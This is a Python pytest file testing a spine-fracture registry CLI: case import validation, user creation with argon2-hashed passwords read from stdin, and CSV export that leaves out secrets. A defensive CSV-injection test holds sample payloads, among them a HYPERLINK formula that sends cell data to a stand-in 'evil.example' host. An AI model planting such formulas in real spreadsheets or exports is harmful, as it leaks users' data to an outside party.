"""``spinefx registry init / user add / import / export`` as a user runs them."""

from __future__ import annotations

import csv
import io
import json

import pytest
import sqlalchemy as sa
from tests.helpers.registry import count_rows

from spinefx.cli import run
from spinefx.registry.models import AuditEntry, Case, Event, Fracture, Outcome, Procedure


def write_jsonl(tmp_path, cases, name="cases.jsonl"):
    path = tmp_path / name
    path.write_text("\n".join(json.dumps(c) for c in cases) + "\n", encoding="utf-8")
    return str(path)


def count(registry, model):
    with registry.transaction() as session:
        return session.scalar(sa.select(sa.func.count()).select_from(model))


def test_init_on_an_empty_sqlite_file_creates_the_registry(tmp_path, capsys, monkeypatch):
    monkeypatch.setenv("SPINEFX_DATABASE_URL", f"sqlite:///{tmp_path / 'new' / 'r.sqlite3'}")
    assert run(["registry", "init"]) == 0
    assert run(["registry", "init"]) == 0
    assert "registry ready" in capsys.readouterr().out
    assert (tmp_path / "new" / "r.sqlite3").is_file()


def test_import_writes_every_case_with_its_rows(cli_env, registry, tmp_path, make_case, capsys):
    path = write_jsonl(
        tmp_path, [make_case("A-1"), make_case("A-2"), make_case("B-1", site="south")]
    )
    assert run(["registry", "import", path]) == 0
    assert "imported 3 cases (north, south)" in capsys.readouterr().out
    assert count(registry, Case) == 3
    assert count(registry, Fracture) == 3
    assert count(registry, Event) == 3
    assert count(registry, Procedure) == 3
    assert count(registry, Outcome) == 3
    with registry.transaction() as session:
        case = session.scalar(sa.select(Case).where(Case.mrn == "A-1"))
        assert case.index_date.isoformat() == "2026-03-02"
        assert case.version == 1
        assert count_rows(session, AuditEntry, AuditEntry.case_id == case.id) == 1


@pytest.mark.parametrize(
    ("bad", "field"),
    [
        ({"birth_date": "1968-02-30"}, "line 2: birth_date"),
        ({"sex": "f"}, "line 2: sex"),
        ({"fractures": []}, "line 2: fractures"),
        (
            {
                "fractures": [
                    {"date": "2026-03-02", "levels": [], "site": None, "found_by": "clinical"}
                ]
            },
            "line 2: fractures[0].site",
        ),
        (
            {"outcomes": [{"date": "2026-03-09", "instrument": "rdq", "score": 25}]},
            "line 2: outcomes[0].score",
        ),
        (
            {"events": [{"type": "dxa", "status": "booked", "date": "2026-04-01"}]},
            "line 2: events[0].status",
        ),
        ({"mrn": "A-1"}, "line 2: mrn"),  # the same MRN as line 1 at the same site
    ],
)
def test_a_bad_line_imports_nothing_and_names_line_and_field(
    cli_env, registry, tmp_path, make_case, capsys, bad, field
):
    good = make_case("A-1")
    path = write_jsonl(tmp_path, [good, {**make_case("A-2"), **bad}, make_case("A-3")])
    assert run(["registry", "import", path]) == 2
    err = capsys.readouterr().err
    assert err.startswith("error: ")
    assert field in err
    assert count(registry, Case) == 0
    assert count(registry, Fracture) == 0


def test_a_line_that_is_not_json_is_named(cli_env, registry, tmp_path, make_case, capsys):
    path = tmp_path / "cases.jsonl"
    path.write_text(json.dumps(make_case("A-1")) + "\n{not json\n", encoding="utf-8")
    assert run(["registry", "import", str(path)]) == 2
    assert "line 2" in capsys.readouterr().err
    assert count(registry, Case) == 0


def test_importing_the_same_mrn_at_the_same_site_again_is_an_error(
    cli_env, registry, tmp_path, make_case, capsys
):
    assert run(["registry", "import", write_jsonl(tmp_path, [make_case("A-1")])]) == 0
    again = write_jsonl(tmp_path, [make_case("A-9"), make_case("A-1")], name="again.jsonl")
    assert run(["registry", "import", again]) == 2
    assert "line 2: mrn" in capsys.readouterr().err
    assert count(registry, Case) == 1  # A-9 was not imported either
    # the same MRN at another site is another patient
    other = write_jsonl(tmp_path, [make_case("A-1", site="south")], name="other.jsonl")
    assert run(["registry", "import", other]) == 0


def user_add(monkeypatch, email, role, *sites, password="a long enough secret", stdin=True):
    """``spinefx registry user add`` with the password on standard input; its exit status."""
    argv = ["registry", "user", "add", email, "--role", role]
    for site in sites:
        argv += ["--site", site]
    if stdin:
        monkeypatch.setattr("sys.stdin", io.StringIO(password + "\n"))
        argv.append("--password-stdin")
    return run(argv)


def test_user_add_reads_the_password_from_stdin_never_argv(cli_env, registry, monkeypatch, capsys):
    from spinefx.registry.passwords import verify_password
    from spinefx.registry.users import user_by_email

    status = user_add(monkeypatch, "Coord@Example.org", "coordinator", "north", "south")
    assert status == 0, capsys.readouterr().err
    with registry.transaction() as session:
        user = user_by_email(session, "coord@example.org")
        assert user is not None and user.role == "coordinator"
        assert sorted(s.code for s in user.sites) == ["north", "south"]
        assert user.password_hash.startswith("$argon2id$")
        assert verify_password(user.password_hash, "a long enough secret")
    argv = ["registry", "user", "add", "x@example.org", "--role", "admin", "--site", "n"]
    assert run([*argv, "--password", "secret-in-argv"]) == 2


def test_user_add_refuses_a_short_password_and_an_unknown_role(cli_env, monkeypatch, capsys):
    assert user_add(monkeypatch, "a@example.org", "admin", "n", password="short") == 2
    assert "password" in capsys.readouterr().err
    assert user_add(monkeypatch, "a@example.org", "boss", "n") == 2
    assert "--role" in capsys.readouterr().err


def test_user_add_prompts_twice_for_the_password(cli_env, registry, monkeypatch):
    answers = iter(["prompted secret 123", "prompted secret 123"])
    monkeypatch.setattr("typer.prompt", lambda *a, **k: next(answers) and "prompted secret 123")
    assert user_add(monkeypatch, "p@example.org", "auditor", "n", stdin=False) == 0


def test_export_writes_one_csv_per_table_without_secrets(
    cli_env, registry, tmp_path, make_case, monkeypatch, capsys
):
    assert run(["registry", "import", write_jsonl(tmp_path, [make_case("A-1")])]) == 0
    assert user_add(monkeypatch, "a@example.org", "admin", "north") == 0
    out = tmp_path / "export"
    assert run(["registry", "export", str(out)]) == 0
    files = sorted(p.name for p in out.iterdir())
    assert "cases.csv" in files and "events.csv" in files and "audit_log.csv" in files
    assert "api_tokens.csv" not in files and "web_sessions.csv" not in files
    with (out / "cases.csv").open(encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    assert [r["mrn"] for r in rows] == ["A-1"]
    assert rows[0]["birth_date"] == "1968-05-01"
    with (out / "fractures.csv").open(encoding="utf-8") as f:
        assert json.loads(next(csv.DictReader(f))["levels"]) == ["L2"]
    users = (out / "users.csv").read_text(encoding="utf-8")
    assert "a@example.org" in users and "argon2" not in users and "password" not in users


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+1+1", "-2+3", "@SUM(1+1)"]


def test_export_makes_cells_that_a_spreadsheet_would_run_inert(
    cli_env, registry, tmp_path, make_case
):
    """OWASP CSV injection: every text cell starting =, +, -, @, tab or CR gets a quote in front
    (written verbatim before the fix); the JSON of the API keeps the value as it was given."""
    lines = [
        make_case(
            f"F-{i}",
            name=text,
            events=[{"type": "dxa", "status": "done", "date": "2026-04-01", "note": text}],
        )
        for i, text in enumerate([*FORMULAS, "\tTabbed", "\rReturn"])
    ]
    assert run(["registry", "import", write_jsonl(tmp_path, lines)]) == 0
    out = tmp_path / "export"
    assert run(["registry", "export", str(out)]) == 0
    with (out / "cases.csv").open(encoding="utf-8", newline="") as f:
        names = [r["name"] for r in csv.DictReader(f)]
    with (out / "events.csv").open(encoding="utf-8", newline="") as f:
        notes = [r["note"] for r in csv.DictReader(f)]
    quoted = ["'" + t for t in FORMULAS]
    assert names[: len(FORMULAS)] == quoted  # names are stripped of spaces on the way in
    assert notes == [*quoted, "Tabbed", "Return"]  # a leading tab or CR is stripped on import
    with registry.transaction() as session:
        stored = session.scalars(sa.select(Case.name).order_by(Case.id)).all()
    assert stored[: len(FORMULAS)] == FORMULAS  # the database keeps the value as it is
